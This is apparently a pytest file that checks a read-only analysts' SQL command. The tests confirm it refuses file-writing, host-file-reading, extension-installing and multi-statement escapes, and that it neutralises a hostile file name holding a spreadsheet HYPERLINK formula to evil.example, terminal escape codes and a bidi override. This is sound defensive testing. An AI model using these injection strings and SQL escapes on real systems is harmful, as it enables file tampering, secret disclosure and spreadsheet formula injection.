"""`bantin sql`: the analysts' session reads the snapshot and nothing else, and prints untrusted text safely."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from bantin import store, warehouse

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x","bấm")\x1b[2J\x1b]0;pwned\x07\u202e.csv'


@pytest.fixture
def snapshot(settings):
    """A warehouse with one ledger row whose file name is hostile, published as the analysts' snapshot."""
    with store.writer(settings) as con:
        con.execute(
            "INSERT INTO ops.submission (submission_id, district_code, file_name, landing_path, archive_path, sha256, "
            "size_bytes, received_at, recorded_at, status, is_late) VALUES ('207-x', 207, ?, 'l', 'a', 's', 1, ?, ?, "
            "'rejected', false)",
            [HOSTILE_NAME, datetime(2021, 10, 19, 9), datetime(2021, 10, 19, 9)],
        )
        warehouse.publish_snapshot(con, settings.analytics_path)
    return settings


def sql(settings, *args, stdin=None) -> subprocess.CompletedProcess:
    env = {**os.environ, "BANTIN_HOME": str(settings.home)}
    return subprocess.run(
        [str(Path(sys.executable).parent / "bantin"), "sql", *args],
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_session_refuses_every_escape_and_changes_nothing(snapshot, tmp_path):
    settings = snapshot
    before = settings.analytics_path.read_bytes()
    victim = settings.home / "bulletins" / "2021-10-19" / "v1" / "bulletin.html"
    victim.parent.mkdir(parents=True)
    victim.write_text("the published bulletin", encoding="utf-8")
    secret = tmp_path / "shadow"
    secret.write_text("root:SECRET-HASH\n", encoding="utf-8")
    escapes = {
        "copy over a bulletin": f"COPY (SELECT 'pwned') TO '{victim}'",
        "copy over the snapshot": f"COPY (SELECT 1) TO '{settings.analytics_path}'",
        "export": f"EXPORT DATABASE '{tmp_path / 'exported'}'",
        "attach the live file": f"ATTACH '{settings.warehouse_path}' AS live",
        "read a host file": f"SELECT * FROM read_text('{secret}')",
        "read the environment": "SELECT * FROM read_text('/proc/self/environ')",
        "read csv of a host file": f"SELECT * FROM read_csv('{secret}')",
        "set": "SET enable_external_access = true",
        "set threads": "SET threads = 64",
        "pragma": "PRAGMA memory_limit = '100GB'",
        "several statements": "SELECT 1; SELECT 2",
        "a statement smuggled after a query": f"SELECT 1; COPY (SELECT 2) TO '{tmp_path / 'x.csv'}'",
        "install an extension": "INSTALL httpfs",
    }
    for name, query in escapes.items():
        result = sql(settings, query)
        assert result.returncode == 1, (name, result.stdout, result.stderr)
        assert "Traceback" not in result.stderr and "SECRET-HASH" not in result.stdout + result.stderr, name
    assert victim.read_text(encoding="utf-8") == "the published bulletin"
    assert settings.analytics_path.read_bytes() == before
    assert not (tmp_path / "exported").exists() and not (tmp_path / "x.csv").exists()
    # The interactive shell is the same session.
    shell = sql(settings, stdin=f"SELECT * FROM read_text('{secret}');\nSELECT 42 AS answer;\n")
    assert shell.returncode == 0 and "SECRET-HASH" not in shell.stdout and "42" in shell.stdout
    # …and an ordinary query still works.
    assert sql(settings, "SELECT count(*) AS n FROM ops.submission").returncode == 0


def test_untrusted_text_reaches_the_terminal_and_spreadsheets_harmless(snapshot):
    query = "SELECT file_name FROM ops.submission"
    table = sql(snapshot, query)
    assert table.returncode == 0
    assert not any(ch in table.stdout for ch in ("\x1b", "\x07", "\u202e"))
    rows = json.loads(sql(snapshot, query, "--format", "json").stdout)
    assert not any(ch in rows[0]["file_name"] for ch in ("\x1b", "\x07", "\u202e"))
    exported = sql(snapshot, query, "--format", "csv").stdout.splitlines()
    assert exported[1].startswith("\"'=HYPERLINK(")  # a spreadsheet shows it as text, never runs it
    assert "\x1b" not in exported[1]


def test_analysts_read_the_snapshot_and_the_live_file_is_the_pipelines_alone(snapshot):
    assert snapshot.warehouse_path.stat().st_mode & 0o077 == 0
    assert snapshot.analytics_path.stat().st_mode & 0o044 == 0o044
